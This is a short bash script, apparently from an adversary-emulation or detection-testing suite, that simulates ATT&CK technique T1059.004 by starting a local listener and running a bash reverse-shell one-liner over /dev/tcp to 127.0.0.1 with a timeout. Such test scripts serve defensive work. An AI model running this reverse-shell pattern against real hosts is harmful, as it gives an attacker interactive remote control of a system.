#!/usr/bin/env bash
# attack: T1059.004 Interactive bash over /dev/tcp to a listener
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$p 0>&1" 2>/dev/null
